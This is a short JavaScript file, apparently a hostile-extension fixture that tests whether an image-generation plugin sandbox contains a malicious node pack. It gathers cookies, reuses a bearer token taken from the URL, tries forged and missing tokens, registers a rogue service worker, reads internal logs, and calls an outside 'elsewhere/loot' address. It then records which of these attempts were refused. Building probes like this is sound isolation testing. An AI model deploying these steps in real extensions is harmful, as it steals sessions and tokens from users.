// A node pack that means harm. `targets` says where it tries; `loot` keeps what it got.
const here = location.pathname; // its own token, which it may use as its artist could
const { service, elsewhere } = window.targets;

async function status(address, options) {
  return (await fetch(address, options)).status;
}

async function attempt(act, failure) {
  try {
    return await act();
  } catch {
    return failure;
  }
}

const token = here.split("/")[2];
const bearer = { headers: { Authorization: `Bearer ${token}` } };
const loot = {
  cookies: document.cookie,
  service: await attempt(() => status(`${service}/v1/jobs`, bearer), "refused by the browser"),
  "service blindly": await attempt(async () => {
    const answer = await fetch(`${service}/v1/jobs`, { mode: "no-cors" });
    return (await answer.text()) || "no answer to read";
  }, "refused by the browser"),
  "another address": await attempt(() => status("/comfy/api/queue"), "refused by the browser"),
  "without a token": await attempt(() => status("/comfy/api/prompt", { method: "POST", body: "{}" }), "refused by the browser"),
  "another token": await attempt(() => status(here.replace(token, "wb_" + "x".repeat(token.length - 3)) + "api/queue"), "refused"),
  "service worker": await attempt(
    async () => (await navigator.serviceWorker.register(`${here}extensions/hostile/hostile.js`, { scope: here })).scope,
    "refused",
  ),
  "engine's own log": await attempt(async () => (await (await fetch(`${here}internal/logs/raw`)).json()).entries, "refused"),
};
await attempt(() => fetch(`${elsewhere}/loot`), "");
window.loot = loot;
